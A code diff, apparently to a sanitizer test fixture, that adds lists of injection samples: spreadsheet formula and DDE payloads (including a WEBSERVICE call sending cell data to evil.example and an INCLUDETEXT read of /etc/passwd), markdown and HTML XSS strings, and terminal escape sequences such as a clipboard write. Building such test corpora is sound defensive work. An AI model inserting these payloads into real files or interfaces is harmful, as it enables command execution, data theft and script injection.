@@ -93,6 +93,72 @@ CONTROLS = (
     "\U000e0041\U000e0042tags",
     "\ufff9annotation\ufffb",
 )
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("https://evil.example","click")',
+    "=cmd|' /C calc'!A0",
+    '=WEBSERVICE("https://evil.example/"&A1)',
+    '=IMPORTXML("https://evil.example","//a")',
+    "+SUM(A1:A9)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\r\n=1+1",
+    "\ufeff=1+1",
+    "\u00a0=1+1",
+    "＝1+1",
+    "＠SUM(A1)",
+    "{=1+1}",
+    "DDEAUTO c:\\windows\\system32\\cmd.exe calc",
+    '{ HYPERLINK "https://evil.example" }',
+    '{ INCLUDETEXT "/etc/passwd" }',
+    "]]></w:t></w:r><w:r><w:t>",
+    "</text:p><text:p>",
+)
+MARKDOWN = (
+    "[click](https://evil.example)",
+    "[click](javascript:alert(1))",
+    "![pixel](https://evil.example/p.png)",
+    "[click][ref]\n\n[ref]: https://evil.example",
+    "<https://evil.example>",
+    "https://evil.example/path?q=1",
+    "www.evil.example",
+    "mail@evil.example",
+    "ask @everyone and @admin",
+    "closes #1, see GH-2",
+    "# A heading of its own",
+    "- [x] ticked",
+    "1. listed",
+    "> quoted",
+    "a | b | c",
+    "| --- | --- |",
+    "``` \ncode\n```",
+    "`` ` ``",
+    "**bold** __strong__ *em* _em_ ~~gone~~",
+    "\\`escaped\\`",
+    "$\\href{javascript:alert(1)}{x}$",
+    ":+1: :tada:",
+    "&#42;&ast;",
+    "[^1]: a note",
+    "---\ntitle: x\n---",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+)
+TERMINALS = (
+    "\x1b]52;c;ZXZpbA==\x07",
+    "\x1b[6n",
+    "\x1b[?1049h",
+    "\x1b[8m hidden \x1b[28m",
+    "\x1bP+q544e\x1b\\",
+    "\x1b_Gf=24;AAAA\x1b\\",
+    "\x1b^private\x1b\\",
+    "\x1bc",
+    "\x1b]1338;File=:AAAA\x07",
+    "\x90dcs\x9c",
+    "\x84\x85\x88",
+    "\x0eshift\x0f",
+    "\x05enquiry",
+    "\u001b\u005b31m",
+    "a\u0300\u0301\u0302\u0303\u0304b",
+)
 URLS = (
     "javascript:alert(1)",
     "JaVaScRiPt:alert(1)",
@@ -114,7 +180,7 @@ URLS = (
     "https://good.example\\@evil.example/",
     "",
 )
-WORDS = (*MARKUP, *ATTRIBUTES, *STYLE, *TEMPLATES, *CONTROLS)
+WORDS = (*MARKUP, *ATTRIBUTES, *STYLE, *TEMPLATES, *CONTROLS, *FORMULAS, *MARKDOWN, *TERMINALS)
 ACTING = frozenset(
     chr(code)
     for low, high in (
